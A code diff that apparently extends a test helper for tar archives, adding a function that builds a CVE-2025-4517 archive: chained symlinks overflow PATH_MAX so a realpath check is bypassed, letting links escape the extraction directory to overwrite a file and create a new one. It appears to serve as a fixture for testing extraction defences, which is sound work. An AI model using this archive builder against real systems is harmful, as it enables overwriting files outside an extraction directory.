@@ -4,6 +4,7 @@
 from __future__ import annotations
 
 import io
+import os
 import stat
 import tarfile
 import warnings
@@ -77,6 +78,27 @@ class TarMaker:
 
     def open(self, **kwargs: Any) -> tarfile.TarFile:
         return tarfile.open(fileobj=io.BytesIO(self.contents), **kwargs)
+
+
+def cve_2025_4517(dest: Path) -> TarMaker:
+    """The archive of CVE-2025-4517 for ``dest``: links whose expansion passes PATH_MAX, so a
+    realpath check stops expanding and passes ``escape``, which leads to dest's parent."""
+    steps = "abcdefghijklmnop"
+    max_path = os.pathconf(dest.parent.parent, "PC_PATH_MAX")
+    component = "d" * ((max_path - len(str(dest)) - 1) // (len(steps) + 1))
+    with TarMaker() as arc:
+        path = ""
+        for step in steps:
+            arc.add(os.path.join(path, component), type=tarfile.DIRTYPE, mode="drwxrwxrwx")
+            arc.add(os.path.join(path, step), symlink_to=component)
+            path = os.path.join(path, component)
+        linkpath = os.path.join(*steps, "l" * 254)
+        arc.add(linkpath, symlink_to=os.path.join(*[".."] * len(steps)))
+        arc.add("escape", symlink_to=os.path.join(linkpath, ".."))
+        arc.add("flaglink", hardlink_to=os.path.join("escape", "flag"))
+        arc.add("flaglink", content="overwrite")
+        arc.add("escape/newfile", content="new")
+    return arc
 
 
 def zip_bytes(members: list[tuple[str, bytes]]) -> bytes:
